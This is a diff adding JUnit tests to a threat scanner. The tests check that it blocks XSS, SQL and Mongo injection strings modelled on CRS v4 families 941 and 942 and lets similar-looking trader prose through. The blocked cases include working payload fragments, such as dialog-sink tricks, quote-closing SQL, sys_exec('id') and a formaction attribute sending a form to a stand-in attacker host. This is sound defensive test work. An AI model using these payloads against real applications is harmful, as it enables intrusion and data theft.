@@ -576,4 +576,63 @@ class ThreatScannerTest {
   void crsFamilyClassesProse(String what, String value) {
     assertThat(scanner.scan(value).threat()).as(what).isFalse();
   }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "a handler set to a sink           | window.onerror=confirm;throw 2",
+        "a sink as the coercion hook       | toString=prompt;self+''",
+        "a sink stored and then called     | f=confirm;f(2)",
+        "a sink handed to Reflect.apply    | Reflect.apply(prompt,self,[2])",
+        "JSFuck's undefined atom           | [][[]]",
+        "a hijacking attribute injected    | q\" formaction=\"//evil.example/steal",
+        "a namespace attribute injected    | x' xmlns:v='urn:schemas-microsoft-com:vml",
+        "an AngularJS scope member         | {{$root.$$childHead}}",
+        "literal closed with a parenthesis | q') rlike ('^a",
+        "limit after a literal, commented  | 7' limit 1#",
+        "a DB2 catalogue                   | sysibm.sysdummy1",
+        "an Oracle DBA view                | dba_role_privs",
+        "an Oracle package procedure       | dbms_xmlquery.newcontext('select 1')",
+        "a UDF called                      | sys_exec('id')",
+        "a PostgreSQL system function      | pg_ls_waldir()",
+        "a 64-bit boundary                 | 9223372036854775807",
+        "a float beyond a double           | 3e400",
+        "the denormal a digit lower        | 2.2250738585072008e-308",
+        "an exponent before a name         | 1.e.passwd",
+        "a Mongo operator as a JS key      | { $gt: '' }",
+        "a $where body returning true      | \"); return 1; //"
+      })
+  @DisplayName("XSS and SQL classes of CRS v4 families 941 and 942 are blocked")
+  void crsV4XssSqlClasses(String what, String value) {
+    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "a condition in a sentence         | or 1=1 was a typo in my note",
+        "a template placeholder            | {{ price }} in the template",
+        "a JSON path                       | json path $.orders[0] of the export",
+        "a Mongo operator named            | mongo $gt filter in our report",
+        "a sink name as a setting          | valueOf=alert level for the desk",
+        "Reflect.apply named               | Reflect.apply is a JS thing, not ours",
+        "sink names listed                 | (alert, confirm, prompt) are the three modes",
+        "an attribute named                | the formaction field of the form",
+        "e.g. after a number               | see 1.e.g. the first leg",
+        "return in a sentence              | it's done; return true later",
+        "this in a sentence                | this.week == good for us",
+        "a name with a limit               | O'Neil limit 1 -- the cap",
+        "like in brackets                  | (see 'the note') like ('this one')",
+        "dba as doing business as          | dba_name of the counterparty",
+        "exponents in a list               | 1e3 lots, 2e5 max, 5e10 cap",
+        "curdate as a word                 | curdate (today) in the report"
+      })
+  @DisplayName("trader prose near the CRS v4 XSS and SQL classes passes")
+  void crsV4XssSqlClassesProse(String what, String value) {
+    assertThat(scanner.scan(value).threat()).as(what).isFalse();
+  }
 }
